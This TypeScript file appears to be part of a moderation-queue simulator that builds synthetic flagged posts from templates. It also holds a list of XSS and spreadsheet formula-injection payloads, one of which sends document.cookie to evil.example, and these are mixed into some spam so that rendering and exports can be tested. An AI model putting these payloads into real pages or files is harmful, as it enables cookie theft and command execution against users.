import type {Category} from "./constants.js";
import {createRng, int, type Rng} from "./random.js";

/**
 * Synthetic text snippets. Each flag stores only a template id; its text is rendered on demand from a
 * per-flag generator, so the world does not hold millions of strings. Campaign templates are
 * near-duplicates with small edits, so dedup and clustering have something real to find. A small share
 * of spam carries hostile payloads (markup, spreadsheet formulas), as real spam does: every page and
 * export must show them as inert text.
 */

export interface Template {
  id: number;
  /** The category this template is written for, or the campaign it belongs to. */
  group: string;
  text: string;
}

const SLOTS: Record<string, readonly string[]> = {
  product: ["crypto signals", "followers", "designer bags", "diet pills", "phone credit", "gift cards", "forex course", "VPN deals"],
  url: ["bit-deals.example", "win-now.example", "cheap-likes.example", "promo-hub.example", "fastcash.example"],
  amount: ["$50", "$200", "$1,000", "500 USDT", "$75"],
  insult: ["idiot", "clown", "loser", "trash", "fraud"],
  group: ["those people", "that community", "outsiders", "them", "that lot"],
  claim: ["the vaccine changes your DNA", "the election was rigged by machines", "tap water is being poisoned", "the flood was staged", "5G towers spread the virus"],
  topic: ["the election", "the storm", "the outbreak", "the protest", "the new law"],
  thing: ["post", "video", "photo", "stream", "comment"],
  time: ["tonight", "today only", "this week", "right now", "before midnight"]
};

const CATEGORY_TEMPLATES: Record<Category, readonly string[]> = {
  spam: [
    "Buy {product} now at {url}, {time}!",
    "Get {product} for free, limited offer {time} {url}",
    "I made {amount} in a day with {product}, DM me",
    "Cheap {product}!!! visit {url}",
    "Follow back for {product}, link in bio {url}"
  ],
  harassment_hate: [
    "you are such an {insult}, nobody wants you here",
    "{group} should be banned from this app",
    "log off you {insult}, everyone hates your {thing}",
    "people like you are why {group} ruin everything",
    "delete your account {insult}"
  ],
  nudity: [
    "uncensored {thing} in my profile, 18+ only",
    "explicit {thing} leaked, click {url}",
    "see my private {thing} {time}",
    "hot pics no filter, {url}"
  ],
  misinformation: [
    "BREAKING: {claim}, share before they delete this",
    "doctors won't tell you that {claim}",
    "my cousin confirmed {claim}",
    "the truth about {topic}: {claim}"
  ],
  child_safety: ["[content withheld: suspected minor safety violation, {thing} escalated]", "[content withheld: grooming pattern in {thing} thread]"],
  other: [
    "this {thing} is off-topic and keeps getting reposted",
    "selling my account, offers {time}",
    "impersonating a verified creator in this {thing}",
    "copyright: reupload of someone else's {thing}",
    "graphic {thing} without a warning"
  ]
};

/** Campaign scripts: one per ring purpose, each the seed of many near-duplicates. */
const CAMPAIGN_TEMPLATES: Record<string, string> = {
  harassment_brigade: "everyone report this {insult}, they deserve to lose their {thing}",
  spam_bot_wave: "Exclusive {product} giveaway, claim {time} at promo-hub.example/claim",
  misinfo_network: "LEAKED MEMO: {topic} was planned, the media is hiding it",
  scam_slow_burn: "Your account won {amount}! verify your payment at secure-pay.example to receive it",
  hate_raid: "{group} are not welcome, flood their {thing} until they leave",
  messaging_scam: "hi dear, I can double your {amount} in 24h, send to my wallet and I pay back"
};

/**
 * Benign near-duplicates: text that many unrelated people post or forward, gets reported by some, and
 * breaks no rule. A content-similarity signal fires on it just as on a campaign script.
 */
export const LOOKALIKE_TEXT_KINDS = ["chain_message", "meme", "copypasta", "quoted_news"] as const;
export type LookalikeTextKind = (typeof LOOKALIKE_TEXT_KINDS)[number];
const LOOKALIKE_TEMPLATES: Record<LookalikeTextKind, string> = {
  chain_message: "forward this to 10 friends or your {thing} gets deleted tomorrow, the app said so",
  meme: "me watching {topic} updates at 3am instead of sleeping",
  copypasta: "I am not a bot, I just really love this {thing} and I will defend it forever",
  quoted_news: "officials say {topic} response will be reviewed, full statement in the {thing} below"
};

/** Hostile payloads seen in real spam; they must never execute or evaluate downstream. */
export const HOSTILE_PAYLOADS: readonly string[] = [
  '<img src=x onerror="alert(1)">',
  "<script>fetch('//evil.example/c?'+document.cookie)</script>",
  '=HYPERLINK("http://evil.example/claim","Claim prize")',
  "=cmd|' /C calc'!A0",
  '"><svg onload=alert(document.domain)>',
  "+SUM(1+1)*cmd|' /C notepad'!A1",
  "@SUM(1,2)",
  '<a href="javascript:alert(1)">claim</a>',
  "-2+3+cmd|' /C calc'!D2",
  "</textarea><iframe src=javascript:alert(1)>",
  "</script><script>alert(1)</script>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "' onmouseover='alert(1)' x='",
  '" autofocus onfocus="alert(1)',
  "<input autofocus onfocus=alert(1)>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<video><source onerror=alert(1)>",
  "<marquee onstart=alert(1)>win</marquee>",
  "javascript:alert(document.cookie)",
  "<style>@import 'http://evil.example/x.css';</style>",
  "<meta http-equiv=refresh content='0;url=http://evil.example'>"
];

const HOSTILE_SHARE = 0.03;

export const TEMPLATES: readonly Template[] = (() => {
  const list: Template[] = [];
  for (const [group, texts] of Object.entries(CATEGORY_TEMPLATES)) for (const text of texts) list.push({id: list.length, group, text});
  for (const [group, text] of Object.entries(CAMPAIGN_TEMPLATES)) list.push({id: list.length, group: `campaign:${group}`, text});
  for (const [group, text] of Object.entries(LOOKALIKE_TEMPLATES)) list.push({id: list.length, group: `lookalike:${group}`, text});
  return list;
})();

const byGroup = new Map<string, number[]>();
for (const t of TEMPLATES) byGroup.set(t.group, [...(byGroup.get(t.group) ?? []), t.id]);

/** A template id for an organic flag of this category. */
export function pickTemplate(rng: Rng, category: Category): number {
  const ids = byGroup.get(category)!;
  return ids[int(rng, ids.length)];
}

/** The template id of a ring's campaign script. */
export function campaignTemplate(purpose: string): number {
  const ids = byGroup.get(`campaign:${purpose}`);
  if (!ids) throw new Error(`unknown campaign: ${purpose}`);
  return ids[0];
}

/** The template id of a benign near-duplicate text. */
export function lookalikeTemplate(kind: LookalikeTextKind): number {
  const ids = byGroup.get(`lookalike:${kind}`);
  if (!ids) throw new Error(`unknown lookalike text: ${kind}`);
  return ids[0];
}

const EMOJI = ["🔥", "💰", "👀", "‼️", "😡", "🙏", "✅"];

/** The snippet of one flag: a deterministic function of the world seed, the flag and its template. */
export function renderSnippet(seed: number, flagId: number, templateId: number): string {
  const template = TEMPLATES[templateId];
  if (!template) throw new Error(`unknown template: ${templateId}`);
  const rng = createRng(`${seed}/text/${flagId}`);
  const campaign = template.group.startsWith("campaign:") || template.group.startsWith("lookalike:");
  let text = template.text.replace(/\{(\w+)\}/g, (_, slot: string) => {
    const words = SLOTS[slot];
    // Campaign copies keep their slot fillers mostly fixed: near-duplicates, not paraphrases.
    return campaign && rng() < 0.8 ? words[0] : words[int(rng, words.length)];
  });
  if (rng() < 0.25) text = text.toUpperCase();
  else if (rng() < 0.2) text = text.toLowerCase();
  if (rng() < 0.15) {
    const i = 1 + int(rng, Math.max(1, text.length - 2));
    text = text.slice(0, i) + text[i + 1] + text[i] + text.slice(i + 2);
  }
  if (rng() < 0.3) text += ` ${EMOJI[int(rng, EMOJI.length)]}`;
  if (rng() < 0.2) text += "!!";
  if ((template.group === "spam" || template.group === "campaign:spam_bot_wave") && rng() < HOSTILE_SHARE) text = `${text} ${HOSTILE_PAYLOADS[int(rng, HOSTILE_PAYLOADS.length)]}`;
  return text;
}
